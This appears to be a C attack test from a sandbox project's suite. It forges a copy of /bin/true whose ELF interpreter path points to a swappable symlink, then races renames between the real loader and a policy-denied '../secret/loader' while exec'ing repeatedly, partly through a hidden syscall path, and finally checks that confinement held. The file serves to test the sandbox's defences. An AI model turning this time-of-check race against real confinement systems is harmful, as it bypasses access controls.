/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Execute what the policy refuses, but Landlock cannot refuse (DIR/secret, inside an exec grant), as the
 * interpreter of a program that it grants: where the program's PT_INTERP leads is changed after the broker
 * approved both.
 */
#include <elf.h>
#include <signal.h>
#include <time.h>

#include "attack.h"

#define NAME       "./swap/loader" /* in DIR, where this program stands */
#define ROUNDS_MAX 4000
#define SECONDS    8

/* A copy of /bin/true that names another interpreter. */
static void make_program(const char *path)
{
        static char image[1 << 20];
        int fd = open("/bin/true", O_RDONLY);
        ssize_t size = read(fd, image, sizeof(image));
        const Elf64_Ehdr *header = (const Elf64_Ehdr *)image;
        Elf64_Phdr *segments = (Elf64_Phdr *)(image + header->e_phoff);

        close(fd);
        for (int i = 0; i < header->e_phnum; i++)
                if (segments[i].p_type == PT_INTERP) {
                        strcpy(image + segments[i].p_offset, NAME);
                        segments[i].p_filesz = sizeof(NAME);
                }
        fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
        if (write(fd, image, (size_t)size) != size)
                exit(2);
        close(fd);
}

/* The name leads here and there, never nowhere. */
_Noreturn static void flip(void)
{
        for (;;) {
                rename("swap/good", NAME);
                symlink("/lib64/ld-linux-x86-64.so.2", "swap/good");
                for (volatile int i = 0; i < 3000; i++)
                        ;
                rename("swap/bad", NAME);
                symlink("../secret/loader", "swap/bad");
                for (volatile int i = 0; i < 3000; i++)
                        ;
        }
}

/* Does the program run at all, with its interpreter in place? */
static bool try_once(bool hidden)
{
        char *const words[] = {(char *)"program", NULL};
        const char *program = in_dir("program");
        int status;
        pid_t pid = fork();

        if (pid == 0) {
                if (hidden)
                        hidden_syscall(SYS_execve, (long)program, (long)words, (long)environ, 0, 0, 0);
                else
                        execve(program, words, environ);
                _exit(98);
        }
        return waitpid(pid, &status, 0) == pid && WIFEXITED(status) && WEXITSTATUS(status) == 0;
}

int main(void)
{
        time_t end = time(NULL) + SECONDS;
        pid_t flipper;

        make_program("program");
        symlink("/lib64/ld-linux-x86-64.so.2", NAME);
        symlink("/lib64/ld-linux-x86-64.so.2", "swap/good");
        symlink("../secret/loader", "swap/bad");
        if (!try_once(false) || !try_once(true)) {
                fprintf(stderr, "attack_interpreter: the program does not run\n");
                return 2;
        }
        flipper = fork();
        if (flipper == 0)
                flip();
        for (int i = 0; i < ROUNDS_MAX && time(NULL) < end; i++)
                try_once(i & 1);
        kill(flipper, SIGKILL);
        still_confined();
        return finished();
}
